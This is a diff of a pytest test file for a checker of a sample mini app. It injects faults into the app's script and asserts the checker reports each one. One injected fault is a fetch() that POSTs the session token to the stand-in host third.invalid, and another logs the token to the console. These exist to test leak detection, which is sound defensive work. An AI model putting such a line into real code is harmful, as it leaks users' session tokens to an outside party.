@@ -5,134 +5,29 @@ from __future__ import annotations
 import json
 import re
 import zipfile
-from collections.abc import AsyncIterator
-from contextlib import AbstractAsyncContextManager, AsyncExitStack
-from dataclasses import dataclass
-from functools import partial
-from importlib.resources import files
+from dataclasses import dataclass, field
 from pathlib import Path
-from typing import Any
 
 import pytest
-import pytest_asyncio
-from playwright.async_api import BrowserContext, Route
 from pydantic import SecretStr
 
-from flows import OpenParameters
-from launcher.hosting import Hosting
-from launcher.hosts import HostUnavailable
-from launcher.launcher import Launcher
-from launcher.metapro import CATALOGUE, DriveReport, MetaproDriver, Screen, Verdict
-from launcher.metapro.drive import Prepare
-from launcher.mini_app import MiniApp
-from launcher.sandbox import Sandbox
-from launcher.sandbox.metapro import MetaproStandIn, Switches
-from launcher.sandbox.site import Site
-from launcher.settings import Settings
-from tests.conftest import need
-from tests.metapro_drives import APP, settings_for
+from launcher.metapro import CATALOGUE, Screen, Verdict
+from tests.metapro_pages import Stage, browser, driven, failed, stage
 
-pytestmark = pytest.mark.asyncio(loop_scope="module")
-SCRIPT = (files("launcher.sandbox") / "sample_app" / "metapro.js").read_text("utf-8")
-PATIENT = Screen(seconds=20.0)
+__all__ = ["browser", "stage"]
 
-
-@dataclass
-class Stage:
-    sandbox: Sandbox
-    metapro: MetaproStandIn
-    launcher: Launcher
-
-
-@pytest_asyncio.fixture(scope="module", loop_scope="module")
-async def stage() -> AsyncIterator[Stage]:
-    """A sandbox with the sample app and the stand-in, an account, and its browser."""
-    settings = Settings(server="sandbox", _env_file=None)
-    async with AsyncExitStack() as stack:
-        sandbox = await stack.enter_async_context(Sandbox())
-        metapro = await stack.enter_async_context(MetaproStandIn(sandbox))
-        await stack.enter_async_context(Site(sandbox, metapro=metapro))
-        launcher = await stack.enter_async_context(Launcher(settings, "alice", sandbox=sandbox))
-        try:
-            await launcher.browser()
-        except HostUnavailable as failure:
-            need("Chromium", str(failure))
-        yield Stage(sandbox, metapro, launcher)
-
-
-async def driven(
-    stage: Stage,
-    *steps: str,
-    broken: dict[str, str] | None = None,
-    loading: Prepare | None = None,
-    switches: dict[str, Any] | None = None,
-    settings: dict[str, Any] | None = None,
-    trace: Path | None = None,
-    screen: Screen = PATIENT,
-    **options: Any,
-) -> DriveReport:
-    """A drive of the sample app, with these texts of its script replaced, and these switches turned.
-    `loading` prepares each page in place of that."""
-    stage.metapro.switches = Switches(**switches or {})
-    changed = loading or partial(load, broken or {})
-
-    def opened(
-        *, platform: str | None = None, prepare: Prepare | None = None, shown: bool = True
-    ) -> AbstractAsyncContextManager[MiniApp]:
-        async def first(context: BrowserContext) -> None:
-            for one in (changed, prepare):
-                if one is not None:
-                    await one(context)
-
-        return stage.launcher.open(
-            APP, start_param="friend", parameters=OpenParameters(platform or "android"),
-            hosting=Hosting("browser", prepare=first) if shown else None,
-        )  # fmt: skip
-
-    driver = MetaproDriver(
-        settings_for(stage.metapro, **settings or {}), steps=steps, relaunch=opened, now=stage.sandbox.now,
-        screen=screen, patience=60.0, **options,
-    )  # fmt: skip
-
-    async def prepare(context: BrowserContext) -> None:
-        await changed(context)
-        await driver.prepare(context)
-
-    hosting = Hosting("browser", prepare=prepare, trace=trace)
-    async with stage.launcher.open(APP, start_param="friend", hosting=hosting) as app:
-        return await driver.drive(app)
-
-
-async def load(changes: dict[str, str], context: BrowserContext, *, library: str = "") -> None:
-    """Let the page load the sample app's script with these texts replaced, after a library."""
-    script = SCRIPT
-    for text, other in changes.items():
-        assert text in script
-        script = script.replace(text, other)
-
-    async def serve(route: Route) -> None:
-        await route.fulfill(body=library + script, content_type="text/javascript")
-
-    if changes:
-        await context.route("**/metapro.js", serve)
-
-
-def failed(report: DriveReport) -> dict[str, str]:
-    return {step.id: step.cause for step in report.steps if step.verdict is Verdict.FAIL}
+pytestmark = pytest.mark.asyncio(loop_scope="session")
 
 
 async def test_the_sample_app_goes_through_the_steps(stage: Stage, tmp_path: Path) -> None:
     """And neither the report nor the trace tells the token or the launch."""
     trace = tmp_path / "trace.zip"
     usual = [step.id for step in CATALOGUE if step.id not in ("D1.users", "D1.nft")]
-    relay = {"relay_project": SecretStr("a-project-for-tests")}
-    report = await driven(stage, *usual, trace=trace, negative=True, settings=relay)
+    report = await driven(stage, *usual, trace=trace, negative=True)
     assert failed(report) == {}
     skipped = {step.id for step in report.steps if step.verdict is Verdict.SKIPPED}
     over_walletconnect = {step.id for step in CATALOGUE if "walletconnect" in step.id}
     assert skipped == {"W3", "X1", "X2", "D1.teams", "D1.referral", "S2", *over_walletconnect}
-    link = report["W1.walletconnect"].cause
-    assert link == "the app opens no WalletConnect link; it tells: wallet: there is no wallet in this browser"
     assert report.exit_code == 0
     assert "android: works; ios: works; tdesktop: warns" in report["T2"].cause
     assert report["X3"].cause.startswith("1 login after the 401")
@@ -145,102 +40,124 @@ async def test_the_sample_app_goes_through_the_steps(stage: Stage, tmp_path: Pat
 
 
 @pytest.mark.slow
-async def test_the_sample_app_copes_with_every_service_down(stage: Stage) -> None:
-    report = await driven(stage, "D1")
-    assert failed(report) == {}
-    assert report["D1.users"].verdict is report["D1.nft"].verdict is Verdict.UNVERIFIED
+async def test_an_app_that_opens_no_link_is_told_so(stage: Stage) -> None:
+    relay = {"relay_project": SecretStr("a-project-for-tests")}
+    report = await driven(stage, "W1.walletconnect", settings=relay)
+    assert report["W1.walletconnect"].verdict is Verdict.SKIPPED
+    link = report["W1.walletconnect"].cause
+    assert link.startswith("the app opens no WalletConnect link; it tells: wallet: there is no wallet")
+
+
+@dataclass(frozen=True)
+class Broken:
+    """An app that is broken by other texts in its script, and what is told of it, by the step's id. `steps`
+    are those to be made beside."""
+
+    changes: dict[str, str]
+    told: dict[str, tuple[str, ...]]
+    start_param: str | None = "friend"
+    steps: tuple[str, ...] = ()
+    switches: dict[str, str] = field(default_factory=dict)
 
 
 GATE = "element(state === 'gated' ? 'gate' : 'app').hidden = false;"
 BEGIN = "await Promise.all([signIn(), showLeaderboard(), meetConnectedWallet()]);"
+TELL = "tell(what, problem.message || String(problem));"
+THIRD = "fetch('http://third.invalid/', { method: 'POST', body: session.token }).catch(() => 0);"
 BROKEN = {
-    "init data changed": (
-        {"telegramSimpleString: rawInitData": "telegramSimpleString: `${rawInitData}&x=1`"},
-        ["L1.app", "L1"],
-        ("L1.app", "byte for byte"),
+    "says what its launch does not": Broken(
+        {
+            "telegramSimpleString: rawInitData": "telegramSimpleString: `${rawInitData}&x=1`",
+            "initData.get('start_param') || undefined": "'friend'",
+        },
+        {"L1.app": ("byte for byte",), "T3": ("no start parameter",)},
+        start_param=None,
+        steps=("L1",),
     ),
-    "start parameter dropped": (
-        {"        referralCode,\n": ""},
-        ["T3"],
-        ("T3", "does not reach the login"),
-    ),
-    "blank on desktops": (
-        {GATE: f"if (state === 'gated') document.body.replaceChildren(); else {GATE}"},
-        ["T2"],
-        ("T2", "on tdesktop the page stays blank"),
-    ),
-    "a loop on 401": (
-        {"problem.status !== 401 || !again": "problem.status !== 401"},
-        ["X3"],
-        ("X3", "a loop"),
-    ),
-    "token in the console": (
-        {"know(account);\n": "know(account); console.log(session.token);\n"},
-        ["S1"],
-        ("S1", "in the console"),
-    ),
-    "another text signed": (
-        {"`Request ID ${hash}`": "`Request ID: ${hash}`"},
-        ["W2"],
-        ("W2.app", "five lines"),
+    "wrong in five ways": Broken(
+        {
+            "        referralCode,\n": "",
+            "know(account);\n": f"know(account); console.log(session.token); {THIRD}\n",
+            "`Request ID ${hash}`": "`Request ID A-HASH-OF-ITS-OWN`",
+            TELL: f"if (problem.code !== 4001) {TELL}",
+            "problem.status !== 401 || !again": "problem.status !== 401",
+        },
+        {
+            "T3": ("does not reach the login",),
+            "S1": ("in the console", "goes to third.invalid"),
+            "W2.app": ("another hash than Metapro issued",),
+            "W4.rejected": ("says nothing about a refused signature",),
+            "X3": ("a loop",),
+        },
+        switches={"leaderboard_reads": "key"},  # of which it tells
     ),
 }
 SLOWLY_BROKEN = {
-    "deaf to the wallet": (
-        {"provider.on?.('accountsChanged'": "void ('accountsChanged'"},
-        ["W4.account"],
-        ("W4.account", "old account"),
+    "blank on desktops": Broken(
+        {GATE: f"if (state === 'gated') document.body.replaceChildren(); else {GATE}"},
+        {"T2": ("on tdesktop the page stays blank",)},
     ),
-    "silent about faults": (
-        {"items('error', [...problems.values()]);": ""},
-        ["D1.leaderboard"],
-        ("D1.leaderboard", "tells nothing"),
+    "another text signed": Broken(
+        {"`Request ID ${hash}`": "`Request ID: ${hash}`"}, {"W2.app": ("five lines",)}
     ),
-    "login behind the leaderboard": (
-        {BEGIN: "await showLeaderboard(); if (!problems.size) await signIn();"},
-        ["D2"],
-        ("D2", "does not log in"),
+    "deaf to the wallet": Broken(
+        {"provider.on?.('accountsChanged'": "void ('accountsChanged'"}, {"W4.account": ("old account",)}
+    ),
+    "silent about faults": Broken(
+        {"items('error', [...problems.values()]);": ""}, {"D1.leaderboard": ("tells nothing",)}
+    ),
+    "silent about the leaderboard, and not about its wallet": Broken(
+        {TELL: f"if (what !== 'leaderboard') {TELL}", BEGIN: f"tell('wallet', 'gone'); {BEGIN}"},
+        {"D1.leaderboard": ("tells nothing",)},
+    ),
+    "login behind the leaderboard": Broken(
+        {BEGIN: "await showLeaderboard(); if (!problems.size) await signIn();"}, {"D2": ("does not log in",)}
     ),
 }
 
 
 @pytest.mark.parametrize(
-    ("broken", "steps", "expected"),
+    "broken",
     [
-        *(pytest.param(*case, id=name) for name, case in BROKEN.items()),
-        *(pytest.param(*case, id=name, marks=pytest.mark.slow) for name, case in SLOWLY_BROKEN.items()),
+        *(pytest.param(case, id=name) for name, case in BROKEN.items()),
+        *(pytest.param(case, id=name, marks=pytest.mark.slow) for name, case in SLOWLY_BROKEN.items()),
     ],
 )
-async def test_a_broken_app_fails_at_its_step(
-    stage: Stage, broken: dict[str, str], steps: list[str], expected: tuple[str, str]
-) -> None:
-    step, words = expected
-    report = await driven(stage, *steps, broken=broken, screen=Screen(seconds=4.0))
-    assert failed(report).keys() == {step}
-    assert words in report[step].cause
-    assert report[step].remedy
+async def test_each_fault_of_an_app_fails_its_own_step(stage: Stage, broken: Broken) -> None:
+    report = await driven(
+        stage, *broken.told, *broken.steps, broken=broken.changes, start_param=broken.start_param,
+        switches=broken.switches,
+        screen=Screen(seconds=4.0),
+    )  # fmt: skip
+    assert failed(report).keys() == broken.told.keys()
+    untold = [
+        (step, text)
+        for step, texts in broken.told.items()
+        for text in texts
+        if text not in report[step].cause
+    ]
+    assert untold == []
+    assert [step for step in broken.told if not report[step].remedy] == []
     assert report.exit_code == 1
 
 
-async def test_a_token_that_the_app_shows_is_struck_out_before_its_words_are_cut_short(stage: Stage) -> None:
-    telling = {"`${what}: ${problem}`": "`${'.'.repeat(352)}${session?.token}`"}
-    report = await driven(stage, "X3", broken=telling)
-    told = json.dumps(report.to_json())
-    assert "then it tells: ......" in report["X3"].cause
-    assert [token for token in stage.metapro.accounts.tokens if token[:6] in told] == []
-
-
-@pytest.mark.slow
-async def test_an_app_that_sends_its_token_in_another_way_is_told_so(stage: Stage) -> None:
-    other = {"authorization: token, 'x-account-userid': userId": "authorization: `Bearer ${token}`"}
-    early = {BEGIN: "session = { token: 'x' }; await me(); session = null; " + BEGIN}
-    report = await driven(stage, "X3", broken=other | early)
+async def test_an_app_that_is_careless_with_its_token_is_told_so(stage: Stage) -> None:
+    """It sends it before it has one, in another way, and shows it: that is struck out, and cut short then."""
+    careless = {
+        "authorization: token, 'x-account-userid': userId": "authorization: `Bearer ${token}`",
+        BEGIN: "session = { token: 'x' }; await me(); session = null; " + BEGIN,
+        "`${what}: ${problem}`": "`${'.'.repeat(352)}${session?.token}`",
+    }
+    report = await driven(stage, "X3", broken=careless)
     assert "before it logs in" in report["L1.app"].warnings[0]
     for step in ("L1.app", "X3"):
         assert report[step].warnings[-2:] == (
             "the app sends its token after Bearer, not as configured",
             "the app sends its token without x-account-userid",
         )
+    told = json.dumps(report.to_json())
+    assert "then it tells: ......" in report["X3"].cause
+    assert [token for token in stage.metapro.accounts.tokens if token[:6] in told] == []
 
 
 ON_LOAD = {
@@ -269,16 +186,3 @@ async def test_what_an_app_attaches_on_its_own_is_not_written_unless_allowed(
 
 def _alice(stage: Stage) -> int:
     return stage.sandbox.world.user("alice").id
-
-
-async def test_a_key_in_the_page_is_a_warning(stage: Stage) -> None:
-    report = await driven(stage, "B3", switches={"page_has_leaderboard_key": True})
-    assert report["B3"].verdict is Verdict.PASS
-    assert len(report["B3"].warnings) == 2
-    assert report.exit_code == 0
-
-
-async def test_a_service_that_pages_may_not_read_fails_the_apps_login_alone(stage: Stage) -> None:
-    report = await driven(stage, "L1", switches={"cors": False})
-    assert failed(report).keys() == {"L1.app"}
-    assert report["L1"].verdict is Verdict.UNVERIFIED
